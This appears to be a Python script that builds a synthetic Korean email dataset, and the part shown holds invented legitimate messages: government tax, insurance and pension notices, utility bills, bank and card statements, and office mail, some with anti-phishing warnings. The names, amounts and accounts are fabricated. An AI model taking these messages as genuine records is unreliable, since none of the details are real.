<p>(주)한빛테크 고객님, 2026년 10월 이용요금이 확정되어 안내드립니다.</p>
<ul>
<li>청구 금액: <b>1,284,370원</b> (VAT 포함)</li>
<li>결제 예정일: 2026년 11월 25일</li>
<li>결제 수단: 계좌 자동이체 (신한은행 ***-***-**4421)</li>
</ul>
<p>주요 사용 내역: Server 6대, Cloud DB for MySQL 2대, Object Storage 1.4TB</p>
<p>상세 내역은 콘솔의 [Billing &amp; Cost Management &gt; 이용요금 조회]에서 확인하실 수 있습니다.</p>
<p><a href="https://console.ncloud.com/billing/usage">이용요금 상세 보기</a></p>
<p style="color:#888;font-size:12px;">본 메일은 발신 전용입니다. 문의: 고객지원 1544-5876</p>
</div></div></body></html>
''')

M('ham', '회의록을 공유하며 액션 아이템을 정리한 짧은 사내 메일, 이전 스레드 인용',
  frm=SY, to=[DY, TS, ('정혜원', 'hyewon.jung@hanbit-tech.example')], prov='thunderbird', reply=True, when=(11, 19, 16, 52),
  subj='Re: 서울클리닉 킥오프 미팅 회의록',
  text='''오늘 킥오프 회의록 정리해서 공유드려요.

[결정사항]
- 장애 등급 1(전체 중단) 시 2시간 내 원격 대응, 4시간 내 방문
- 월간 점검: 매월 셋째 주 목요일 오후 (진료 적은 시간)
- 백업: 일 1회 NAS + 주 1회 외부 클라우드, 보관 90일

[액션 아이템]
- 도윤 책임: 현재 서버 구성도 및 백업 스크립트 점검 (11/26)
- 태식 대리: UPS 교체 견적 받기 (11/25)
- 저: 개인정보 처리 위탁 확인서 양식 병원에 전달 (11/20)

빠진 내용 있으면 회신으로 보완 부탁드려요.

서연

On 2026-11-19 3:05 PM, 김도윤 wrote:
> 회의 끝나고 회의록은 서연 과장님이 정리해 주시기로 했습니다.
> 저는 서버실 사진 몇 장 찍어왔으니 필요하면 말씀 주세요.
''')

M('ham', '법무법인이 민사소송 변론기일 변경을 의뢰인에게 알리는 메일 (법원 사칭 피싱과 헷갈리는 정상 메일)',
  frm=SC, to=[HJ], prov='outlook', cs='euc-kr', when=(11, 11, 9, 45),
  subj='[법무법인 대한] 사건번호 2026가단5***** 변론기일 변경 안내',
  text='''하정훈 대표님께,

진행 중인 물품대금 청구 소송(서울중앙지방법원 2026가단5*****)의
변론기일이 법원 사정으로 아래와 같이 변경되었음을 알려드립니다.

- 변경 전: 2026. 11. 19.(목) 14:30
- 변경 후: 2026. 12. 10.(목) 15:00, 서울중앙지방법원 동관 4**호 법정

이번 기일에는 대표님께서 직접 출석하실 필요는 없으며, 저희가 출석하겠습니다.
상대방이 제출한 준비서면에 대한 반박 자료(거래명세서, 카카오톡 대화 내역)는
11월 27일까지 보내주시면 준비서면에 반영하겠습니다.

참고로 법원이나 검찰은 메일이나 문자로 링크를 보내 앱 설치나 개인정보 입력을 요구하지 않습니다.
사건 진행 상황은 대법원 "나의 사건검색"에서 직접 확인하실 수 있습니다.

문상철 변호사 드림
''')

M('ham', '거래처 대표가 보낸 짧은 감사 인사와 연말 선물 배송지 확인 요청 (daum, 존댓말)',
  frm=('동해수산 정상철', 'donghae_susan@hanmail.net'), to=[HJ], prov='daum', cs='euc-kr', when=(11, 25, 8, 12),
  subj='올 한해 감사했습니다 - 동해수산 정상철',
  text='''하 대표님, 동해수산 정상철입니다.

올해도 변함없이 거래해 주셔서 감사합니다.
작은 정성으로 반건조 오징어 세트를 보내드리려고 하는데,
공장으로 보내드리면 될지 사무실(서울)로 보내드릴지 여쭤봅니다.

12월 첫째 주에 발송하려고 하니 편하실 때 알려주세요.
내년에도 잘 부탁드리겠습니다.

정상철 드림
''')


# ===========================================================================
# HAM - public notices, finance, shopping/delivery
# ===========================================================================
PM = ('장미경', 'mkjang@haneul-mail.test')
HW = ('류현우', 'hwryu@haneul-mail.test')
YR = ('서예린', 'yerin.seo@haneul-mail.test')
GS = ('권기석', 'gskwon@haneul-mail.test')

M('ham', '국민건강보험공단의 11월분 건강보험료 전자고지 (nhis.or.kr, EUC-KR HTML)',
  frm=('국민건강보험공단', 'nhis_ebill@nhis.or.kr'), to=[PM], prov='inhouse', cs='euc-kr', cte='base64',
  mailer='NHIS e-Bill', dkim=False, when=(11, 12, 6, 30),
  subj='[국민건강보험] 2026년 11월분 사회보험료 전자고지서가 도착하였습니다.',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"><title>국민건강보험공단 전자고지</title></head>
<body style="margin:0;font-family:'돋움',Dotum;font-size:12px;color:#333;">
<table width="650" align="center" cellpadding="0" cellspacing="0" style="border:1px solid #cfd8e3;">
<tr><td style="background:#005bac;padding:12px 20px;color:#fff;font-size:15px;font-weight:bold;">국민건강보험공단 전자고지 안내</td></tr>
<tr><td style="padding:20px;line-height:1.8;">
<b>장미경</b> 님, 2026년 11월분 사회보험료(지역가입자) 전자고지서를 보내드립니다.<br><br>
<table width="100%" border="1" cellspacing="0" cellpadding="5" style="border-collapse:collapse;border-color:#cfd8e3;font-size:12px;">
<tr><td width="35%" bgcolor="#f0f5fb">고지 월</td><td>2026년 11월</td></tr>
<tr><td bgcolor="#f0f5fb">건강보험료</td><td>131,220원</td></tr>
<tr><td bgcolor="#f0f5fb">장기요양보험료</td><td>17,300원</td></tr>
<tr><td bgcolor="#f0f5fb">국민연금보험료</td><td>212,400원</td></tr>
<tr><td bgcolor="#f0f5fb">합계</td><td><b>360,920원</b></td></tr>
<tr><td bgcolor="#f0f5fb">납부기한</td><td>2026년 12월 10일</td></tr>
</table><br>
전자고지서 상세 내용은 공단 홈페이지(www.nhis.or.kr) 또는 모바일 앱 "The건강보험"에서 확인하실 수 있습니다.<br>
자동이체를 신청하시면 건당 200원(최대)이 감액됩니다.<br><br>
<span style="color:#c00;">※ 공단은 문자나 메일로 환급금 수령을 위한 앱 설치나 URL 접속을 요구하지 않습니다.</span>
</td></tr>
<tr><td style="background:#f4f4f4;padding:10px 20px;font-size:11px;color:#777;">강원특별자치도 원주시 건강로 32 국민건강보험공단 | 고객센터 1577-1000<br>본 메일은 발신전용입니다.</td></tr>
</table></body></html>
''')

M('ham', '국민건강보험공단 일반건강검진 미수검자 안내, 연말 마감 독려 (UTF-8 HTML)',
  frm=('국민건강보험공단', 'noreply@nhis.or.kr'), to=[GS], prov='inhouse', cs='UTF-8', cte='quoted-printable',
  mailer=None, dkim=False, when=(11, 2, 10, 0),
  subj='[국민건강보험] 2026년 건강검진 대상자 안내 - 12월 31일까지 받으세요',
  html='''<html><head><meta charset="{CHARSET}"></head><body>
<div style="width:600px;margin:0 auto;font-family:'맑은 고딕',sans-serif;font-size:14px;line-height:1.7;">
<h3 style="color:#005bac;border-bottom:2px solid #005bac;padding-bottom:6px;">2026년 건강검진 안내</h3>
<p>권기석 님은 2026년 <b>일반건강검진 및 대장암 검진</b> 대상자이나 아직 검진을 받지 않으셨습니다.</p>
<p>올해 검진은 <b>12월 31일(목)</b>까지이며, 연말에는 검진기관이 붐비니 미리 예약하시기 바랍니다.</p>
<ul>
<li>검진 비용: 일반건강검진 무료 (국가암검진은 일부 본인부담)</li>
<li>준비물: 신분증</li>
<li>검진기관 찾기: 공단 홈페이지 &gt; 건강iN &gt; 검진기관/병원 찾기</li>
</ul>
<p>직장가입자는 사업장 담당자를 통해서도 대상 여부를 확인하실 수 있습니다.</p>
<p style="font-size:12px;color:#666;">문의: 국민건강보험공단 고객센터 1577-1000</p>
</div></body></html>
''')

M('ham', '국세청 홈택스의 종합소득세 중간예납 고지 안내 (hometax.go.kr, EUC-KR, 8bit)',
  frm=('국세청 홈택스', 'webmaster@hometax.go.kr'), to=[('박소라', 'sora.park@hanul-design.test')], prov='inhouse', cs='euc-kr',
  cte='8bit', mailer=None, dkim=False, when=(11, 4, 9, 30),
  subj='[국세청] 2026년 종합소득세 중간예납 고지 안내',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head>
<body style="font-family:굴림;font-size:12px;">
<table width="640" border="0" cellpadding="10" cellspacing="0" style="border:1px solid #b9c9de;">
<tr><td style="background:#1a3f7a;color:#ffffff;font-size:14px;"><b>국세청 홈택스 안내</b></td></tr>
<tr><td style="line-height:1.8;">
박소라 님 안녕하십니까.<br>
2026년 종합소득세 중간예납세액이 아래와 같이 고지되었음을 안내드립니다.<br><br>
&nbsp;- 중간예납 세액 : 1,482,000원<br>
&nbsp;- 납부기한 : 2026. 11. 30.(월)<br>
&nbsp;- 납부방법 : 홈택스(손택스) 또는 금융기관, 가상계좌, 신용카드<br><br>
중간예납은 직전 과세기간 납부세액의 2분의 1을 미리 납부하는 제도입니다.<br>
올해 사업 실적이 크게 줄어든 경우 중간예납 추계액 신고를 할 수 있습니다.<br><br>
고지 내용은 홈택스(www.hometax.go.kr) 로그인 후 [조회/발급 &gt; 세금신고납부 &gt; 고지내역 조회]에서 확인하시기 바랍니다.<br><br>
<font color="#cc0000">※ 국세청은 환급금 안내를 이유로 문자·메일로 인터넷 주소(URL)를 보내지 않습니다.</font>
</td></tr>
<tr><td style="background:#f3f3f3;font-size:11px;color:#666;">국세상담센터 126 | 본 메일은 발신전용입니다.</td></tr>
</table></body></html>
''')

M('ham', '정부24 민원 처리 결과 통지 (주민등록표 등본 발급, gov.kr)',
  frm=('정부24', 'noreply@gov.kr'), to=[YR], prov='inhouse', cs='UTF-8', mailer=None, dkim=False, when=(10, 7, 14, 11),
  subj='[정부24] 신청하신 민원의 처리 결과를 알려드립니다',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:14px;">
<div style="max-width:600px;border:1px solid #ddd;padding:24px;">
<p style="font-size:18px;font-weight:bold;margin-top:0;">민원 처리 결과 안내</p>
<p>서예린 님이 신청하신 민원이 처리되었습니다.</p>
<table style="border-collapse:collapse;width:100%;font-size:13px;">
<tr><td style="border:1px solid #ddd;padding:6px;background:#f7f7f7;">민원명</td><td style="border:1px solid #ddd;padding:6px;">전입신고 (주민등록 전입세대 확인 포함)</td></tr>
<tr><td style="border:1px solid #ddd;padding:6px;background:#f7f7f7;">접수번호</td><td style="border:1px solid #ddd;padding:6px;">2026-1006-****-3391</td></tr>
<tr><td style="border:1px solid #ddd;padding:6px;background:#f7f7f7;">처리기관</td><td style="border:1px solid #ddd;padding:6px;">서울특별시 마포구 망원제1동</td></tr>
<tr><td style="border:1px solid #ddd;padding:6px;background:#f7f7f7;">처리일시</td><td style="border:1px solid #ddd;padding:6px;">2026-10-07 14:08</td></tr>
<tr><td style="border:1px solid #ddd;padding:6px;background:#f7f7f7;">처리결과</td><td style="border:1px solid #ddd;padding:6px;">처리완료</td></tr>
</table>
<p>처리 결과는 정부24 누리집 [나의 정부24 &gt; 신청내역]에서 확인할 수 있습니다.</p>
<p style="color:#888;font-size:12px;">이 메일은 발신 전용입니다. 정부민원안내콜센터 110</p>
</div></body></html>
''')

M('ham', '국민연금공단의 연금 가입내역 및 예상연금액 안내 (nps.or.kr, EUC-KR)',
  frm=('국민연금공단', 'nps_mail@nps.or.kr'), to=[HW], prov='inhouse', cs='euc-kr', mailer='NPS Mailer', dkim=False,
  when=(9, 21, 10, 0),
  subj='[국민연금] 류현우 님의 연금 가입내역을 안내해 드립니다',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head>
<body style="font-family:돋움;font-size:12px;">
<table width="620" cellpadding="0" cellspacing="0" border="0" style="border:1px solid #ccc;">
<tr><td style="padding:14px;background:#00479d;color:#fff;font-size:14px;"><b>국민연금 가입내역 안내</b></td></tr>
<tr><td style="padding:16px;line-height:1.8;">
류현우 님, 국민연금에 가입해 주셔서 감사합니다.<br>
2026년 8월 말 기준 가입내역을 안내해 드립니다.<br><br>
가입기간 : 총 142개월 (사업장 118개월, 지역 24개월)<br>
납부한 보험료 총액 : 31,847,600원<br>
예상 노령연금 월액(현재가치) : 약 612,000원 (만 65세 수령 기준)<br><br>
예상연금액은 현재까지의 가입 이력을 기준으로 산정한 것으로 실제 수령액과 다를 수 있습니다.<br>
추후납부(추납) 및 임의계속가입 제도에 대해서는 가까운 지사나 1355로 문의하시기 바랍니다.
</td></tr>
<tr><td style="padding:10px;background:#eee;font-size:11px;">국민연금공단 | 전북특별자치도 전주시 덕진구 기지로 180 | 고객센터 1355</td></tr>
</table></body></html>
''')

M('ham', '마포구청 주민자치센터 겨울학기 프로그램 수강생 모집 공지 (mapo.go.kr, 첨부 HWP)',
  frm=('망원1동 주민센터', 'mangwon1@mapo.go.kr'), to=[YR], prov='inhouse', cs='euc-kr', cte='base64', mailer=None,
  dkim=False, when=(11, 16, 11, 20),
  subj='[망원1동 자치회관] 2027년 겨울학기 프로그램 수강생 모집 안내',
  text='''망원1동 자치회관 2027년 겨울학기(1~3월) 수강생을 아래와 같이 모집합니다.

○ 모집기간 : 2026. 12. 1.(화) ~ 12. 11.(금)
○ 접수방법 : 방문 접수(주민센터 2층) 또는 마포구 평생학습 누리집 온라인 접수
○ 수강료 : 프로그램별 월 1만원 ~ 3만원 (재료비 별도)
○ 프로그램 : 요가, 생활 영어, 스마트폰 활용, 서예, 통기타, 어린이 미술 등 14개 강좌

※ 수강료는 개강 후 주민센터에서 카드 또는 계좌이체로 납부합니다.
   개강 전 개별 문자로 수강료 입금을 요구하지 않으니 유의하시기 바랍니다.
※ 기초생활수급자, 장애인, 국가유공자는 수강료 50% 감면(증빙 제출)

자세한 강좌 시간표는 첨부 파일을 참고하시기 바랍니다.

망원1동 주민센터 자치회관 담당 ☎ 02-3153-****
''',
  atts=[HWP('2027_겨울학기_자치회관_프로그램_시간표.hwp', ['2027년 겨울학기 자치회관 프로그램 시간표', '요가 월수 10:00', '생활영어 화목 19:00'])])

M('ham', '경찰청 사이버범죄 예방 뉴스레터, 스미싱 문자 예시를 그대로 인용 (police.go.kr)',
  frm=('경찰청 사이버수사국', 'cyber_news@police.go.kr'), to=[GS], prov='inhouse', cs='UTF-8', mailer=None, dkim=False,
  when=(10, 21, 14, 0), list=dict(url='https://ecrm.police.go.kr/minwon/newsletter/unsubscribe', post=False),
  subj='[사이버범죄 예방 소식] 10월 - 부고·청첩장 사칭 스미싱 급증',
  html='''<html><head><meta charset="{CHARSET}"></head><body>
<div style="width:640px;margin:0 auto;font-family:'맑은 고딕';font-size:14px;line-height:1.7;color:#222;">
<div style="background:#0a2a66;color:#fff;padding:16px;font-size:18px;font-weight:bold;">사이버범죄 예방 소식 2026-10호</div>
<h3>1. 부고·청첩장 사칭 스미싱 급증</h3>
<p>최근 지인을 사칭해 부고장이나 모바일 청첩장을 보낸 것처럼 속이는 문자가 크게 늘었습니다. 실제 신고된 문자 예시는 다음과 같습니다.</p>
<blockquote style="background:#f3f3f3;border-left:4px solid #999;margin:0;padding:10px;">
[부고] 故 김OO님께서 별세하셨기에 삼가 알려드립니다. 장례식장 위치 및 조문 안내: http://bit.ly/(생략)<br>
저희 결혼합니다. 모바일 청첩장 보내드려요 http://(생략)
</blockquote>
<p>링크를 누르면 악성 앱(APK)이 설치되어 연락처, 문자, 금융 정보가 유출될 수 있습니다.</p>
<h3>2. 이렇게 예방하세요</h3>
<ul>
<li>출처가 불분명한 문자 속 링크는 누르지 말고, 보낸 사람에게 전화로 확인</li>
<li>휴대전화 설정에서 "출처를 알 수 없는 앱 설치" 차단</li>
<li>피해가 의심되면 112 또는 사이버범죄 신고시스템(ECRM)으로 신고</li>
</ul>
<p style="font-size:12px;color:#777;">본 소식지는 수신에 동의하신 분께 발송됩니다. 수신을 원하지 않으시면 <a href="https://ecrm.police.go.kr/minwon/newsletter/unsubscribe">수신거부</a>를 눌러 주세요.</p>
</div></body></html>
''')

M('ham', '한국전력 전기요금 청구서 이메일 (kepco.co.kr, 자동이체 안내)',
  frm=('한국전력공사', 'cyber@kepco.co.kr'), to=[PM], prov='inhouse', cs='euc-kr', mailer='KEPCO e-Bill', dkim=False,
  when=(11, 14, 8, 0),
  subj='[한국전력] 2026년 11월 전기요금 청구서 (고객번호 01-****-****-12)',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<table width="600" border="0" cellspacing="0" cellpadding="8" style="font-family:돋움;font-size:12px;border:1px solid #ddd;">
<tr><td bgcolor="#e60012" style="color:#fff;font-size:14px;"><b>KEPCO 전기요금 청구서</b></td></tr>
<tr><td>장미경 고객님의 11월 전기요금을 안내해 드립니다.</td></tr>
<tr><td><table width="100%" border="1" cellspacing="0" cellpadding="4" style="border-collapse:collapse;font-size:12px;">
<tr><td bgcolor="#f6f6f6">사용기간</td><td>10월 13일 ~ 11월 12일</td></tr>
<tr><td bgcolor="#f6f6f6">사용량</td><td>287 kWh (전월 대비 -41 kWh)</td></tr>
<tr><td bgcolor="#f6f6f6">청구금액</td><td><b>42,180원</b></td></tr>
<tr><td bgcolor="#f6f6f6">납기일</td><td>2026년 11월 25일 (자동이체 출금)</td></tr>
</table></td></tr>
<tr><td>자세한 내역은 한전ON(online.kepco.co.kr) 또는 한전ON 앱에서 확인하세요.<br>고객센터 국번없이 123</td></tr>
</table></body></html>
''')

M('ham', '도시가스 요금 고지와 동절기 안전점검 일정 안내 (seoulgas.co.kr)',
  frm=('서울도시가스', 'ebill@seoulgas.co.kr'), to=[YR], prov='inhouse', cs='euc-kr', cte='8bit', dkim=False,
  mailer='SCG Mail', when=(11, 21, 9, 10),
  subj='[서울도시가스] 11월 가스요금 및 안전점검 방문 안내',
  text='''서예린 고객님 안녕하세요. 서울도시가스입니다.

11월 가스요금(10월 사용분)을 안내드립니다.
  - 사용량 : 38㎥
  - 청구금액 : 36,470원
  - 납부기한 : 11월 30일

[동절기 안전점검 방문 안내]
12월 7일 ~ 12월 18일 사이 고객님 댁을 방문하여 가스 안전점검을 실시합니다.
점검원은 사원증을 패용하며, 점검 시 별도의 비용을 요구하지 않습니다.
부재 시 문 앞에 안내문을 남겨 드리니 재방문 일정을 예약해 주세요.

고객센터 1588-5788
''')

M('ham', '서울도서관 대출 도서 반납 예정일 안내 (lib.seoul.go.kr, 짧은 텍스트)',
  frm=('서울도서관', 'library@seoul.go.kr'), to=[YR], prov='inhouse', cs='euc-kr', cte='quoted-printable', mailer=None,
  dkim=False, fmt='plain', when=(10, 26, 7, 0),
  subj='[서울도서관] 대출 도서 반납 예정일 안내',
  text='''서예린 님, 대출하신 도서의 반납 예정일이 3일 남았습니다.

1. 작별하지 않는다 / 한강 - 반납예정일 2026-10-29
2. 도시는 무엇으로 사는가 / 유현준 - 반납예정일 2026-10-29

반납 연기는 홈페이지 [내 서재 > 대출현황]에서 1회(7일) 가능합니다.
연체 시 연체일수만큼 대출이 정지됩니다.

서울도서관 ☎ 02-2133-0300
''')

M('ham', '고용24(고용노동부) 국민내일배움카드 훈련 출석률 및 훈련장려금 지급 안내',
  frm=('고용24', 'noreply@work24.go.kr'), to=[HW], prov='inhouse', cs='UTF-8', mailer=None, dkim=False,
  when=(11, 6, 15, 40),
  subj='[고용24] 훈련장려금 지급 예정 안내 (10월 단위기간)',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:14px;">
<p>류현우 님, 안녕하세요. 고용24입니다.</p>
<p>수강 중인 훈련과정 <b>「AI 활용 데이터 분석 실무」</b>의 10월 단위기간 출석률이 확정되어 훈련장려금 지급 예정 내역을 안내드립니다.</p>
<ul><li>출석률: 95% (20일 중 19일)</li><li>지급 예정액: 116,000원</li><li>지급 예정일: 2026년 11월 13일 (등록된 본인 계좌)</li></ul>
<p>지급 계좌 변경은 고용24 로그인 후 [훈련 &gt; 훈련장려금 계좌 관리]에서만 가능합니다.</p>
<p style="font-size:12px;color:#888;">고용노동부 고객상담센터 1350 | 본 메일은 발신전용입니다.</p>
</body></html>
''')

# ---- finance --------------------------------------------------------------
M('ham', 'KB국민카드 이용대금명세서 - 실제 카드사 관행대로 본문은 짧고 생년월일로 여는 보안메일 HTML 첨부 (EUC-KR)',
  frm=('KB국민카드', 'kbcard@kbcard.com'), to=[PM], prov='inhouse', cs='euc-kr', mailer='KB Secure Mailer',
  selector='kbc', when=(11, 8, 5, 12),
  subj='[KB국민카드] 장미경님의 2026년 11월 이용대금명세서입니다.',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head>
<body style="font-family:돋움;font-size:12px;">
<table width="600" cellpadding="10" cellspacing="0" style="border:1px solid #ffcc00;">
<tr><td style="background:#ffcc00;font-size:14px;"><b>KB국민카드 이용대금명세서</b></td></tr>
<tr><td style="line-height:1.8;">장미경 고객님, 2026년 11월 이용대금명세서를 보내드립니다.<br>
고객님의 개인정보 보호를 위해 명세서는 <b>보안메일</b>로 발송되며,
첨부된 파일을 열어 <b>생년월일 6자리</b>를 입력하시면 확인하실 수 있습니다.<br><br>
결제일 : 2026년 11월 14일<br>
결제 계좌 : 국민은행 ***-**-****-312<br><br>
※ KB국민카드는 명세서 확인을 위해 카드번호, 비밀번호, CVC 번호를 요구하지 않습니다.<br>
※ 보안메일이 열리지 않는 경우 KB Pay 앱 또는 홈페이지에서 확인해 주세요.</td></tr>
<tr><td style="font-size:11px;color:#777;background:#f7f7f7;">KB국민카드 고객센터 1588-1688 | 본 메일은 발신전용입니다.</td></tr>
</table></body></html>
''',
  atts=[HTMLATT('KB국민카드_이용대금명세서_202611.html', '''<html><head><meta charset="utf-8"><title>KB국민카드 보안메일</title>
<script type="text/javascript">
/* secure mail viewer - decrypts payload with birth date (6 digits) */
var payload = "U2FsdGVkX1+q8kYq3v0ZrW1mC2n9bV4hJk7lQp0sT6uY3xW5zA8dF2gH4jK6lM1n";
function openMail(){var b=document.getElementById('birth').value;if(b.length!=6){alert('생년월일 6자리를 입력해 주세요.');return;}
document.getElementById('msg').innerText='명세서를 복호화하는 중입니다...';}
</script></head>
<body style="font-family:sans-serif;text-align:center;padding-top:60px;">
<img alt="KB국민카드" src="data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==">
<h3>KB국민카드 보안메일</h3>
<p>고객님의 생년월일 6자리를 입력해 주세요.</p>
<input id="birth" type="password" maxlength="6"> <button onclick="openMail()">확인</button>
<p id="msg"></p>
<p style="font-size:11px;color:#888;">본 보안메일은 고객님의 개인정보 보호를 위해 암호화되어 있습니다.</p>
</body></html>''', style='2047', ctype='text/html; charset="utf-8"')])

M('ham', '신한카드 해외 가맹점 결제 승인 알림 - 본인 사용이 아니면 고객센터 전화 안내 (정상 거래 알림)',
  frm=('신한카드', 'shinhancard@shinhancard.com'), to=[HW], prov='inhouse', cs='UTF-8', cte='base64',
  mailer=None, selector='shc', when=(10, 18, 23, 47),
  subj='[신한카드] 해외 승인 안내 - USD 42.90',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:14px;color:#222;">
<div style="max-width:560px;margin:0 auto;border-top:4px solid #0046ff;padding:20px;">
<p><b>해외 승인 안내</b></p>
<p>류현우 님, 신한카드 해외 승인 내역을 알려드립니다.</p>
<table style="font-size:13px;border-collapse:collapse;">
<tr><td style="padding:4px 12px 4px 0;color:#666;">카드</td><td>신한카드 Deep Dream(9***)</td></tr>
<tr><td style="padding:4px 12px 4px 0;color:#666;">승인일시</td><td>2026.10.18 23:46</td></tr>
<tr><td style="padding:4px 12px 4px 0;color:#666;">가맹점</td><td>STEAMGAMES.COM 4259522985</td></tr>
<tr><td style="padding:4px 12px 4px 0;color:#666;">금액</td><td>USD 42.90 (일시불)</td></tr>
</table>
<p>본인이 사용하지 않은 거래라면 신한카드 고객센터(1544-7000)로 바로 연락해 주세요.<br>신한 SOL페이 앱에서 해외결제 차단 설정도 가능합니다.</p>
<p style="font-size:12px;color:#888;">신한카드는 문자나 메일의 링크를 통해 카드 정보 입력을 요구하지 않습니다.</p>
</div></body></html>
''')

M('ham', '현대카드 결제 예정금액 안내, 리볼빙 관련 법정 고지 문구 포함 (EUC-KR QP)',
  frm=('현대카드', 'noreply@hyundaicard.com'), to=[GS], prov='inhouse', cs='euc-kr', cte='quoted-printable',
  mailer=None, selector='hc', when=(11, 19, 10, 3),
  subj='[현대카드] 11월 25일 결제 예정 금액 안내',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head>
<body style="margin:0;background:#fafafa;"><div style="width:560px;margin:0 auto;background:#fff;padding:28px;font-family:'맑은 고딕';font-size:13px;color:#111;">
<p style="font-size:18px;"><b>권기석</b> 님의<br>11월 결제 예정 금액입니다</p>
<p style="font-size:26px;font-weight:bold;margin:8px 0;">1,037,620원</p>
<p>결제일 11월 25일 / 출금계좌 하나은행 ***-******-***07</p>
<hr style="border:0;border-top:1px solid #ddd;">
<p>일시불 884,120원 &nbsp;|&nbsp; 할부 153,500원 (3건)</p>
<p style="font-size:11px;color:#777;">결제금액이 부족할 경우 연체이자가 부과될 수 있습니다. 리볼빙(일부결제금액이월약정)은 이용 시 수수료율이 높아 상환 부담이 커질 수 있으니 신중하게 이용하시기 바랍니다.</p>
<p style="font-size:11px;color:#777;">현대카드 고객센터 1577-6000 | 현대카드 앱에서 명세서 전체를 확인하실 수 있습니다.</p>
</div></body></html>
''')

M('ham', '우리은행 정기예금 만기 도래 안내 및 재예치 방법 안내 (wooribank.com)',
  frm=('우리은행', 'woori_info@wooribank.com'), to=[PM], prov='inhouse', cs='euc-kr', mailer='WooriMail',
  selector='woori', when=(10, 12, 9, 0),
  subj='[우리은행] 고객님의 예금 만기일이 다가오고 있습니다',
  text='''장미경 고객님, 항상 우리은행을 이용해 주셔서 감사합니다.

고객님께서 가입하신 예금의 만기일이 다가와 안내드립니다.

  상품명 : WON플러스예금
  계좌번호 : 1002-***-***871
  만기일 : 2026년 10월 26일
  가입금액 : 20,000,000원
  약정이율 : 연 3.25%

만기 후에는 약정이율보다 낮은 만기후이율이 적용되오니
우리WON뱅킹 앱, 인터넷뱅킹 또는 가까운 영업점에서 해지·재예치를 해 주시기 바랍니다.

※ 우리은행은 전화나 문자로 예금 해지 후 다른 계좌로의 이체를 권유하지 않습니다.

우리은행 고객센터 1588-5000
''')

M('ham', '토스의 월간 소비 리포트 (toss.im, 이모지 포함 UTF-8 HTML, SES 발송)',
  frm=('토스', 'no-reply@toss.im'), to=[YR], prov='ses', when=(11, 1, 12, 0),
  list=dict(url='https://toss.im/unsubscribe/report?u=8f2c1a', mailto='unsubscribe@toss.im'),
  subj='예린님의 10월 소비 리포트가 도착했어요 📊',
  html='''<!doctype html><html><head><meta charset="{CHARSET}"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;background:#f2f4f6;"><div style="max-width:480px;margin:0 auto;background:#fff;padding:32px 24px;font-family:'Toss Product Sans',-apple-system,sans-serif;color:#191f28;">
<p style="font-size:22px;font-weight:700;line-height:1.4;">예린님, 10월에는<br>1,284,500원을 썼어요</p>
<p style="color:#6b7684;">9월보다 112,300원 덜 썼어요 👏</p>
<div style="background:#f9fafb;border-radius:16px;padding:16px;margin:16px 0;">
<p>🍚 식비 412,000원<br>🚌 교통 96,400원<br>🛒 쇼핑 288,100원<br>☕ 카페·간식 74,800원<br>🏠 주거·통신 413,200원</p>
</div>
<p>가장 많이 쓴 곳은 <b>쿠팡</b>이에요. 자세한 내역은 토스 앱에서 확인해 보세요.</p>
<a href="https://toss.im/_m/report/2026-10" style="display:block;text-align:center;background:#3182f6;color:#fff;border-radius:12px;padding:14px;text-decoration:none;">리포트 자세히 보기</a>
<p style="font-size:12px;color:#8b95a1;margin-top:24px;">이 메일은 토스 마케팅 정보 수신과 무관한 서비스 안내입니다. 더 이상 리포트 메일을 받지 않으려면 토스 앱 &gt; 설정 &gt; 알림에서 변경하세요.<br>비바리퍼블리카 | 서울특별시 강남구 테헤란로 131</p>
</div></body></html>
''')

M('ham', '카카오뱅크 거래내역서 발급 요청 결과 - 비밀번호 걸린 PDF 첨부',
  frm=('카카오뱅크', 'noreply@kakaobank.com'), to=[HW], prov='inhouse', cs='UTF-8', mailer=None, selector='kb1',
  when=(9, 14, 13, 27),
  subj='[카카오뱅크] 요청하신 거래내역서를 보내드립니다',
  text='''안녕하세요, 카카오뱅크입니다.

류현우 님이 앱에서 요청하신 거래내역서를 첨부 파일로 보내드립니다.

- 계좌: 입출금통장(3333-**-****512)
- 조회기간: 2026.06.01 ~ 2026.08.31
- 발급일시: 2026.09.14 13:26

첨부 파일은 개인정보 보호를 위해 암호가 설정되어 있습니다.
비밀번호는 고객님의 생년월일 6자리입니다.

본 메일은 발신 전용입니다. 문의는 카카오뱅크 고객센터(1599-3333)로 해 주세요.
''',
  atts=[PDF('카카오뱅크_거래내역서_20260914.pdf', ['kakaobank  Transaction History', '2026.06.01 - 2026.08.31',
                                                 '(encrypted document)'], title='Transaction History')])

M('ham', '삼성카드 포인트 소멸 예정 안내 - 포인트 사용처 링크, 정상 마케팅 아닌 정보성 고지',
  frm=('삼성카드', 'samsungcard@samsungcard.com'), to=[GS], prov='inhouse', cs='euc-kr', cte='base64', mailer=None,
  selector='scard', when=(11, 23, 10, 10),
  subj='[삼성카드] 12월 31일 소멸 예정 포인트 안내',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<table width="600" cellpadding="12" style="font-family:'맑은 고딕';font-size:13px;border:1px solid #dfe3ea;">
<tr><td style="background:#1428a0;color:#fff;"><b>SAMSUNG CARD</b></td></tr>
<tr><td>권기석 회원님, 2026년 12월 31일에 소멸 예정인 포인트가 있어 안내드립니다.<br><br>
소멸 예정 빅포인트 : <b>8,420 P</b><br>
현재 사용 가능 포인트 : 21,930 P<br><br>
빅포인트는 삼성카드 앱 &gt; 혜택 &gt; 포인트 사용에서 결제대금 차감, 기부, 제휴사 전환 등으로 사용하실 수 있습니다.<br><br>
